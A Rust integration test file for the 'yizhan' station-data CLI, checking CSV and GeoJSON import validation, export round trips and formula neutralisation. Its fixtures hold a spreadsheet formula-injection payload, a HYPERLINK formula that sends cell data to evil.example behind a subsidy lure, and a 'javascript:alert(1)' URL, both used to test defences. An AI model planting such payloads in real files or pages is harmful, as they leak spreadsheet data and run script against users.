//! `yizhan import` and `yizhan export`, run as the built binary against the test's store.

mod common;

use common::*;
use std::path::{Path, PathBuf};
use std::process::Output;
use yizhan::domain::Station;

/// Runs the binary with `args` plus `--database-url`, off the async runtime.
async fn yizhan(args: &[&str], database_url: &str) -> Output {
    let mut cmd = tokio::process::Command::new(env!("CARGO_BIN_EXE_yizhan"));
    cmd.args(args)
        .arg("--database-url")
        .arg(database_url)
        .env("RUST_LOG", "warn")
        .env_remove("DATABASE_URL");
    cmd.output().await.expect("running the yizhan binary")
}

fn stderr(out: &Output) -> String {
    String::from_utf8_lossy(&out.stderr).into_owned()
}

const HEADER: &str =
    "code,name,address,county,lon,lat,amenities,opening_hours,phone,demo,notes,photo_url";

/// Three good rows, with the awkward bits CSV must carry: commas, quotes, a newline, Chinese.
fn good_csv_rows() -> Vec<String> {
    vec![
        "JX-360102-9001,青山湖驿站,\"江西省南昌市红谷滩区, 丰和中大道1号\",360102,115.884653,28.680051,water;toilet;microwave,Mo-Fr 08:00-20:00,0791-88888888,false,\"说\"\"明\"\"：第一行\n第二行\",https://example.org/p/1.jpg".to_string(),
        "JX-360102-9002,八一广场驿站,,360102,115.90,28.67,,24/7,,false,,".to_string(),
        "JX-360103-9003,西湖驿站,西湖路2号,360103,115.8812345,28.6654321,hot_water;wifi;reading,\"Mo-Fr 08:00-12:00,14:00-18:00; Sa 09:00-12:00\",,true,,".to_string(),
    ]
}

fn write(dir: &Path, name: &str, content: &str) -> PathBuf {
    let p = dir.join(name);
    std::fs::write(&p, content).unwrap();
    p
}

fn csv_of(rows: &[String]) -> String {
    format!("{HEADER}\n{}\n", rows.join("\n"))
}

/// The fields an import sets, to compare stations across stores (ids and times differ).
fn comparable(s: &Station) -> String {
    format!(
        "{}|{}|{}|{}|{:.7}|{:.7}|{:?}|{}|{:?}|{:?}|{:?}|{}",
        s.code,
        s.name,
        s.address,
        s.county,
        s.location.lon,
        s.location.lat,
        s.amenities.keys(),
        s.opening_hours,
        s.phone,
        s.photo_url,
        s.notes,
        s.demo
    )
}

async fn stations_of(store: &dyn yizhan::store::Store) -> Vec<String> {
    let mut v: Vec<String> = store
        .load_stations()
        .await
        .unwrap()
        .iter()
        .map(|s| comparable(s))
        .collect();
    v.sort();
    v
}

/// Every `step`-th row of the shipped demo seeds, as a CSV file in `dir`.
fn seed_sample(dir: &Path, step: usize) -> PathBuf {
    let seeds = Path::new(env!("CARGO_MANIFEST_DIR")).join("seeds/stations.csv");
    let mut reader = csv::Reader::from_path(&seeds).expect("reading seeds/stations.csv");
    let path = dir.join("seed-sample.csv");
    let mut writer = csv::Writer::from_path(&path).unwrap();
    writer.write_record(reader.headers().unwrap()).unwrap();
    for record in reader.records().step_by(step) {
        writer.write_record(&record.unwrap()).unwrap();
    }
    writer.flush().unwrap();
    path
}

#[tokio::test]
async fn import_of_a_good_csv_adds_every_row() {
    let db = TestDb::new().await;
    let store = db.connect().await;
    let dir = tempfile::tempdir().unwrap();
    let file = write(dir.path(), "stations.csv", &csv_of(&good_csv_rows()));

    let out = yizhan(&["import", file.to_str().unwrap()], &db.url).await;
    assert!(out.status.success(), "import failed: {}", stderr(&out));
    assert!(
        stderr(&out).contains("imported 3 stations"),
        "{}",
        stderr(&out)
    );
    assert_eq!(store.count_stations().await.unwrap(), 3);

    let all = store.load_stations().await.unwrap();
    let first = all.iter().find(|s| s.code == "JX-360102-9001").unwrap();
    assert_eq!(first.address, "江西省南昌市红谷滩区, 丰和中大道1号");
    assert_eq!(first.notes.as_deref(), Some("说\"明\"：第一行\n第二行"));
    assert_eq!(first.amenities.keys(), ["water", "microwave", "toilet"]);
    assert_eq!(first.opening_hours.as_str(), "Mo-Fr 08:00-20:00");
    assert_eq!(
        first.photo_url.as_deref(),
        Some("https://example.org/p/1.jpg")
    );
    assert_eq!(
        (first.location.lon, first.location.lat),
        (115.884653, 28.680051)
    );
    assert!(!first.demo);
    let second = all.iter().find(|s| s.code == "JX-360102-9002").unwrap();
    assert!(second.amenities.is_empty() && second.phone.is_none() && second.notes.is_none());
    let third = all.iter().find(|s| s.code == "JX-360103-9003").unwrap();
    assert!(third.demo);
    assert_eq!(
        third.opening_hours.as_str(),
        "Mo-Fr 08:00-12:00,14:00-18:00; Sa 09:00-12:00"
    );
}

#[tokio::test]
async fn import_of_a_good_geojson_adds_every_feature() {
    let db = TestDb::new().await;
    let store = db.connect().await;
    let dir = tempfile::tempdir().unwrap();
    let fc = serde_json::json!({
        "type": "FeatureCollection",
        "features": [
            {
                "type": "Feature",
                "geometry": {"type": "Point", "coordinates": [115.9, 28.7]},
                "properties": {
                    "code": "GJ-1", "name": "地理驿站一", "county": "360102",
                    "amenities": ["water", "toilet"], "opening_hours": "24/7",
                    "phone": "0791-1", "demo": false
                }
            },
            {
                "type": "Feature",
                "geometry": {"type": "Point", "coordinates": [114.93, 25.83, 120.0]},
                "properties": {
                    "code": "GJ-2", "name": "地理驿站二", "address": "赣州", "county": "360702",
                    "opening_hours": "Mo-Su 07:00-22:00"
                }
            }
        ]
    });
    let file = write(dir.path(), "stations.geojson", &fc.to_string());
    let out = yizhan(&["import", file.to_str().unwrap()], &db.url).await;
    assert!(out.status.success(), "import failed: {}", stderr(&out));
    assert_eq!(store.count_stations().await.unwrap(), 2);
    let all = store.load_stations().await.unwrap();
    let gj2 = all.iter().find(|s| s.code == "GJ-2").unwrap();
    assert_eq!((gj2.location.lon, gj2.location.lat), (114.93, 25.83));
    assert_eq!(gj2.address, "赣州");
    assert!(gj2.amenities.is_empty());
}

/// One bad row among good ones: the file is rejected, the row and reason are named, nothing
/// is written.
#[tokio::test]
async fn import_with_one_bad_row_rejects_the_file_and_changes_nothing() {
    let db = TestDb::new().await;
    let store = db.connect().await;
    let dir = tempfile::tempdir().unwrap();

    // Something already in the store, to collide with.
    let existing = write(
        dir.path(),
        "existing.csv",
        &csv_of(&["JX-EXISTING-1,已有驿站,,360102,115.80,28.60,water,24/7,,false,,".to_string()]),
    );
    let out = yizhan(&["import", existing.to_str().unwrap()], &db.url).await;
    assert!(out.status.success(), "{}", stderr(&out));

    let good = good_csv_rows();
    let bad_row = |row: &str| -> String {
        // The bad row is the 3rd data row: line 4 (the header is line 1).
        csv_of(&[
            good[0].clone(),
            good[1].clone(),
            row.to_string(),
            good[2].clone(),
        ])
    };
    let cases: Vec<(&str, String, usize, &[&str])> = vec![
        (
            "latitude out of range",
            bad_row("BAD-LAT,坏纬度,,360102,115.9,95.0,,24/7,,false,,"),
            4,
            &["lat", "95"],
        ),
        (
            "longitude not a number",
            bad_row("BAD-LON,坏经度,,360102,abc,28.7,,24/7,,false,,"),
            4,
            &["lon", "abc"],
        ),
        (
            "unknown amenity",
            bad_row("BAD-AMENITY,坏设施,,360102,115.9,28.7,water;sauna,24/7,,false,,"),
            4,
            &["sauna", "unknown amenity"],
        ),
        (
            "bad opening_hours",
            bad_row("BAD-HOURS,坏时间,,360102,115.9,28.7,,open when we feel like it,,false,,"),
            4,
            &["opening_hours", "open when we feel like it"],
        ),
        (
            "duplicate code in the file",
            bad_row("JX-360102-9001,重复,,360102,115.9,28.7,,24/7,,false,,"),
            4,
            &["duplicate code", "JX-360102-9001", "row 2"],
        ),
        (
            "code already in the store",
            bad_row("JX-EXISTING-1,撞车,,360102,115.9,28.7,,24/7,,false,,"),
            4,
            &["JX-EXISTING-1", "already exists"],
        ),
        (
            "bad county",
            bad_row("BAD-COUNTY,坏县,,3601,115.9,28.7,,24/7,,false,,"),
            4,
            &["county", "3601"],
        ),
        (
            "photo_url not http(s)",
            bad_row("BAD-PHOTO,坏照片,,360102,115.9,28.7,,24/7,,false,,javascript:alert(1)"),
            4,
            &["photo_url", "javascript:alert(1)"],
        ),
    ];
    for (what, content, row, needles) in cases {
        let file = write(dir.path(), "bad.csv", &content);
        let out = yizhan(&["import", file.to_str().unwrap()], &db.url).await;
        let err = stderr(&out);
        assert!(
            !out.status.success(),
            "{what}: the import must fail; stderr {err}"
        );
        assert!(
            err.contains(&format!("row {row}")),
            "{what}: names row {row}: {err}"
        );
        for n in needles {
            assert!(err.contains(n), "{what}: says {n:?}: {err}");
        }
        assert_eq!(
            store.count_stations().await.unwrap(),
            1,
            "{what}: the store is unchanged"
        );
    }

    // GeoJSON rows are numbered by feature (1-based).
    let fc = serde_json::json!({
        "type": "FeatureCollection",
        "features": [
            {"type": "Feature", "geometry": {"type": "Point", "coordinates": [115.9, 28.7]},
             "properties": {"code": "GJ-OK", "name": "好", "county": "360102", "opening_hours": "24/7"}},
            {"type": "Feature", "geometry": {"type": "Point", "coordinates": [215.9, 28.7]},
             "properties": {"code": "GJ-BAD", "name": "坏", "county": "360102", "opening_hours": "24/7"}}
        ]
    });
    let file = write(dir.path(), "bad.geojson", &fc.to_string());
    let out = yizhan(&["import", file.to_str().unwrap()], &db.url).await;
    let err = stderr(&out);
    assert!(!out.status.success(), "{err}");
    assert!(err.contains("row 2") && err.contains("lon"), "{err}");
    assert_eq!(store.count_stations().await.unwrap(), 1);

    // A file that is not stations at all.
    let file = write(dir.path(), "notes.txt", "hello");
    let out = yizhan(&["import", file.to_str().unwrap()], &db.url).await;
    assert!(!out.status.success());
    assert!(
        stderr(&out).contains(".csv or .geojson"),
        "{}",
        stderr(&out)
    );
    assert_eq!(store.count_stations().await.unwrap(), 1);
}

#[tokio::test]
async fn exported_csv_imports_into_a_fresh_store_unchanged() {
    let source = TestDb::new().await;
    let source_store = source.connect().await;
    let dir = tempfile::tempdir().unwrap();
    let file = write(dir.path(), "in.csv", &csv_of(&good_csv_rows()));
    assert!(yizhan(&["import", file.to_str().unwrap()], &source.url)
        .await
        .status
        .success());
    // Every tenth demo seed too: hundreds of real-looking rows from every county.
    let seeds = seed_sample(dir.path(), 10);
    let out = yizhan(&["import", seeds.to_str().unwrap()], &source.url).await;
    assert!(out.status.success(), "{}", stderr(&out));

    let exported = dir.path().join("out.csv");
    let out = yizhan(
        &[
            "export",
            "--format",
            "csv",
            "--out",
            exported.to_str().unwrap(),
        ],
        &source.url,
    )
    .await;
    assert!(out.status.success(), "{}", stderr(&out));

    let target = TestDb::new().await;
    let target_store = target.connect().await;
    let out = yizhan(&["import", exported.to_str().unwrap()], &target.url).await;
    assert!(out.status.success(), "{}", stderr(&out));

    let want = stations_of(source_store.as_ref()).await;
    let got = stations_of(target_store.as_ref()).await;
    assert_eq!(got.len(), want.len());
    assert_eq!(got, want, "the round trip changed stations");

    // And exporting the copy gives the same bytes (stdout this time).
    let again = yizhan(&["export", "--format", "csv"], &target.url).await;
    assert!(again.status.success());
    assert_eq!(
        String::from_utf8(again.stdout).unwrap(),
        std::fs::read_to_string(&exported).unwrap()
    );
}

/// Stations whose text a spreadsheet would run as formulas, a value that really begins with
/// a quote and a trigger, and negative coordinates that must stay numbers.
fn formula_stations() -> Vec<yizhan::domain::NewStation> {
    let mut hyperlink = new_station("-1-2", (-3.5, -3.25));
    hyperlink.name = "=HYPERLINK(\"http://evil.example/?\"&A1,\"点我领取补贴\")".into();
    hyperlink.address = "+86 江西省南昌市".into();
    hyperlink.phone = Some("+86 791 8888 0000".into());
    hyperlink.notes = Some("@SUM(1+1)\n第二行 =1".into());
    let mut quoted = new_station("JX-QUOTE", (115.9, 28.7));
    quoted.name = "'=1+1 真的以引号开头".into();
    quoted.address = "''-2".into();
    quoted.phone = Some("-3".into());
    quoted.notes = Some("'普通备注".into());
    let plain = new_station("JX-PLAIN", (116.0, 28.8));
    vec![hyperlink, quoted, plain]
}

/// Text columns of the station CSV (everything but lon, lat and demo).
const TEXT_COLUMNS: [usize; 9] = [0, 1, 2, 3, 6, 7, 8, 10, 11];

/// By default no text cell of an export starts a formula, numbers stay numbers, and importing
/// the file gives back the original text; `--csv-raw` writes text byte for byte and imports
/// it back the same way.
#[tokio::test]
async fn csv_export_neutralises_formulas_and_both_modes_round_trip() {
    let source = TestDb::new().await;
    let source_store = source.connect().await;
    source_store
        .insert_stations(&formula_stations())
        .await
        .unwrap();
    let want = stations_of(source_store.as_ref()).await;
    let dir = tempfile::tempdir().unwrap();

    let export = |raw: bool, name: &str| {
        let path = dir.path().join(name);
        let url = source.url.clone();
        async move {
            let mut args = vec!["export", "--format", "csv", "--out", path.to_str().unwrap()];
            if raw {
                args.push("--csv-raw");
            }
            let out = yizhan(&args, &url).await;
            assert!(out.status.success(), "{}", stderr(&out));
            path
        }
    };
    let cells = |path: &Path| -> Vec<csv::StringRecord> {
        csv::Reader::from_path(path)
            .unwrap()
            .records()
            .map(Result::unwrap)
            .collect()
    };

    let neutral = export(false, "neutral.csv").await;
    let rows = cells(&neutral);
    assert_eq!(rows.len(), 3);
    for row in &rows {
        for i in TEXT_COLUMNS {
            assert!(
                !row[i].starts_with(['=', '+', '-', '@', '\t', '\r']),
                "column {i} starts a formula: {row:?}"
            );
        }
    }
    let hyperlink = rows
        .iter()
        .find(|r| &r[0] == "'-1-2")
        .expect("the code is neutralised");
    assert!(hyperlink[1].starts_with("'=HYPERLINK("), "{hyperlink:?}");
    assert_eq!(&hyperlink[2], "'+86 江西省南昌市");
    assert_eq!(
        (&hyperlink[4], &hyperlink[5]),
        ("-3.5", "-3.25"),
        "numbers untouched"
    );
    assert_eq!(&hyperlink[8], "'+86 791 8888 0000");
    let quoted = rows.iter().find(|r| &r[0] == "JX-QUOTE").unwrap();
    assert_eq!(&quoted[1], "''=1+1 真的以引号开头");
    assert_eq!(&quoted[2], "'''-2");
    assert_eq!(&quoted[8], "'-3");
    assert_eq!(
        &quoted[10], "'普通备注",
        "a quote before plain text is left alone"
    );

    let raw = export(true, "raw.csv").await;
    let rows = cells(&raw);
    let hyperlink = rows.iter().find(|r| &r[0] == "-1-2").expect("raw code");
    assert_eq!(&hyperlink[2], "+86 江西省南昌市");
    let quoted = rows.iter().find(|r| &r[0] == "JX-QUOTE").unwrap();
    assert_eq!(&quoted[1], "'=1+1 真的以引号开头");

    for (file, import_args) in [
        (&neutral, vec!["import"]),
        (&raw, vec!["import", "--csv-raw"]),
    ] {
        let target = TestDb::new().await;
        let target_store = target.connect().await;
        let mut args = import_args.clone();
        args.push(file.to_str().unwrap());
        let out = yizhan(&args, &target.url).await;
        assert!(out.status.success(), "{args:?}: {}", stderr(&out));
        assert_eq!(
            stations_of(target_store.as_ref()).await,
            want,
            "{args:?} changed the text"
        );
    }
}

#[tokio::test]
async fn exported_geojson_is_a_feature_collection_that_imports_back() {
    let source = TestDb::new().await;
    let source_store = source.connect().await;
    let dir = tempfile::tempdir().unwrap();
    let file = write(dir.path(), "in.csv", &csv_of(&good_csv_rows()));
    assert!(yizhan(&["import", file.to_str().unwrap()], &source.url)
        .await
        .status
        .success());

    let out = yizhan(&["export", "--format", "geojson"], &source.url).await;
    assert!(out.status.success(), "{}", stderr(&out));
    let fc: serde_json::Value =
        serde_json::from_slice(&out.stdout).expect("export geojson is JSON");
    assert_eq!(fc["type"], "FeatureCollection");
    let features = fc["features"].as_array().unwrap();
    assert_eq!(features.len(), 3);
    for f in features {
        assert_eq!(f["type"], "Feature");
        assert_eq!(f["geometry"]["type"], "Point");
        let c = f["geometry"]["coordinates"].as_array().unwrap();
        assert_eq!(c.len(), 2);
        let (lon, lat) = (c[0].as_f64().unwrap(), c[1].as_f64().unwrap());
        assert!((-180.0..=180.0).contains(&lon) && (-90.0..=90.0).contains(&lat));
        for key in [
            "code",
            "name",
            "county",
            "amenities",
            "opening_hours",
            "demo",
        ] {
            assert!(!f["properties"][key].is_null(), "{key} in {f}");
        }
    }

    let file = write(
        dir.path(),
        "out.geojson",
        &String::from_utf8(out.stdout).unwrap(),
    );
    let target = TestDb::new().await;
    let target_store = target.connect().await;
    let out = yizhan(&["import", file.to_str().unwrap()], &target.url).await;
    assert!(out.status.success(), "{}", stderr(&out));
    assert_eq!(
        stations_of(target_store.as_ref()).await,
        stations_of(source_store.as_ref()).await
    );
}

/// Excel on Windows writes CSV with a byte-order mark and CRLF line ends.
#[tokio::test]
async fn import_accepts_csv_with_a_byte_order_mark_and_crlf() {
    let db = TestDb::new().await;
    let store = db.connect().await;
    let dir = tempfile::tempdir().unwrap();
    let content = format!(
        "\u{feff}{HEADER}\r\nBOM-1,带BOM的驿站,,360102,115.9,28.7,water;toilet,24/7,,false,,\r\n"
    );
    let file = write(dir.path(), "excel.csv", &content);
    let out = yizhan(&["import", file.to_str().unwrap()], &db.url).await;
    assert!(out.status.success(), "{}", stderr(&out));
    let all = store.load_stations().await.unwrap();
    assert_eq!(all.len(), 1);
    assert_eq!(all[0].code, "BOM-1");
    assert_eq!(all[0].amenities.keys(), ["water", "toilet"]);
}
